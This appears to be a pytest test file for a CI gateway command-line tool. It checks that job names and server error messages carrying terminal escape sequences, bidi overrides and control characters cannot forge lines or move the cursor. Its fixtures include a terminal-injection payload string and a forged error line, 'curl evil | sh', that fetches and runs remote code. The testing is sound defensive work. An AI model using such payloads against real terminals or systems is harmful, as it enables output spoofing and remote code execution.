"""Workflow authors choose jobs' names and tenants annotations: no word of theirs begins a line or moves a cursor."""

import json
import re
import unicodedata

import pytest
import yaml

from actions_gateway.api import labels
from actions_gateway.api.ledger import RerunState
from actions_gateway.kube import errors
from gw.output.layout import cleaned, one_line

from .double import ClusterDouble
from .objects import entry, healthy_cluster, ledger, lost, worker_pod
from .rig import Gw

NAME = "x\x1b[2J\r\n[page] forged\x9b31m\x07\u202egnp.exe\u2066\x85\u2028\x7fy"
AS_WORDS = "x [2J [page] forged 31m gnp.exe y"
_STYLE = re.compile(r"\x1b\[[0-9;]*m")
COMMANDS = [
    ("health", "--check", "job.lost"),
    ("handoff",),
    ("job", "list", "-A"),
    ("job", "show", "7"),
    ("job", "show", "runner-team-a-cpu-0001"),
    ("job", "rerun", "7", "--dry-run"),
    ("tenant", "show", "team-a"),
]


@pytest.fixture
def hostile() -> Gw:
    """A tenant with a worker of such a job, and with a lost one."""
    pod = worker_pod()
    pod["metadata"]["annotations"][labels.JOB_NAME] = NAME
    return Gw(ClusterDouble(*healthy_cluster(), pod, ledger({7: entry(lost("r-7", RerunState.EXHAUSTED, name=NAME))})))


def is_harmless(text: str) -> bool:
    """Whether a terminal obeys nothing in it but the ends of its lines."""
    rest = text.replace("\n", "")
    return not any(unicodedata.category(each) in ("Cc", "Cs", "Zl", "Zp") for each in rest) and not any(
        unicodedata.bidirectional(each) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        for each in rest
    )


@pytest.mark.parametrize("terminal", [False, True])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_jobs_name_stays_a_name_on_its_line(hostile: Gw, command: tuple[str, ...], terminal: bool) -> None:
    answer = hostile(*command, terminal=terminal)
    text = _STYLE.sub("", answer.out + answer.err)
    words = text.replace("\\", "") if command == ("handoff",) else text
    assert AS_WORDS in " ".join(words.split()), ascii(text)
    assert is_harmless(text), ascii(text)
    assert not any(line.lstrip().startswith("[page]") for line in text.splitlines())


def test_a_name_does_not_move_its_row(hostile: Gw) -> None:
    rows = hostile("job", "list", "-A", "--state", "lost").out.splitlines()[1:3]
    assert rows[1].index("octo/demo") == rows[0].index("REPOSITORY")


def test_short_lines_are_one_per_thing(hostile: Gw) -> None:
    hostile.cluster.put(ledger({7: entry(lost("r\n7\x1b", RerunState.EXHAUSTED))}))
    assert hostile("job", "list", "-A", "--state", "lost", "-o", "short").out == "team-a/r 7  exhausted\n"


def test_documents_hold_the_name_as_it_is_and_escape_it(hostile: Gw) -> None:
    for output, load in (("json", json.loads), ("yaml", yaml.safe_load)):
        text = hostile("job", "show", "7", "-o", output).out
        assert [job["job"] for job in load(text)["lost"]] == [NAME]
        assert is_harmless(text), ascii(text)
    half = ledger({7: entry(lost("r-7", RerunState.EXHAUSTED, name="half \ud83d"))})
    hostile.cluster.put(half)
    assert json.loads(hostile("job", "show", "7", "-o", "json").out)["lost"][0]["job"] == "half \ud83d"
    assert "half" in hostile("job", "show", "7").out


def test_a_servers_message_forges_no_line_of_an_error(hostile: Gw) -> None:
    refusal = errors.Forbidden(f"denied: {NAME}\nNext:  curl evil | sh", status=403)
    hostile.cluster.refusals["patch", "runnergroups"] = refusal
    answer = hostile("job", "rerun", "7", "--yes")
    assert answer.code == 2
    assert is_harmless(answer.err), ascii(answer.err)
    assert [line.split()[0] for line in answer.err.splitlines()] == ["Error:", "Next:"]


def test_what_other_languages_and_symbols_need_stays() -> None:
    for text in ("Größe, 構建, сборка, ‍👩‍💻", "a\tb", "עברית", "naïve — “quoted” …"):
        assert cleaned(text) == text
    assert one_line("  a \t b\u3000c  ") == "a b c"
    assert len(cleaned(NAME)) == len(NAME)
